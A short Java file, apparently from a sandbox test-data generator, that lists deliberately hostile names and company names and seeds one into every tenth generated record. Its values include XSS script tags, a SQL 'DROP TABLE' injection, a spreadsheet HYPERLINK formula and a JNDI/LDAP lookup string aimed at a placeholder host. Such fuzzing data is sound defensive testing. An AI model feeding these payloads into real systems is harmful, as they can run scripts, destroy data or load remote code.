package io.crosswalk.sandbox;

import java.util.List;

/** Names that break careless software. Each is in generated data once. */
final class Hostile {
    /** First name and last name. */
    record Name(String first, String last) {}

    static final List<Name> NAMES =
            List.of(
                    new Name("<script>alert(1)</script>", "<img src=x onerror=alert(2)>"),
                    new Name("Dwayne \"The Rock\"", "\"Quoted\""),
                    new Name("Siobhán", "O'Brien"),
                    new Name("🦄 Ünï", "👩‍👩‍👧‍👦 Family"),
                    new Name("محمد", "\u202Eالأحمد"),
                    new Name("Longfirst".repeat(22) + "ab", "Longlast".repeat(25)),
                    new Name("Robert'); DROP TABLE Contact;--", "' OR Name LIKE '%"),
                    new Name("=HYPERLINK(\"http://example.example\")", "${jndi:ldap://x.example}"),
                    new Name("null", "undefined"),
                    new Name("True", "0"),
                    new Name("@{r0.id}", "@{r1.Name}"));

    static final List<String> COMPANIES =
            List.of("<b>Bold</b> & \"Brave\" Ltd", "O'Reilly's; Sons", "日本語株式会社 🏯");

    private Hostile() {}

    /** Every tenth record from the fourth on, as long as there are hostile ones. */
    static <T> T at(int index, List<T> hostile, T otherwise) {
        boolean chosen = index % 10 == 3 && index / 10 < hostile.size();
        return chosen ? hostile.get(index / 10) : otherwise;
    }
}
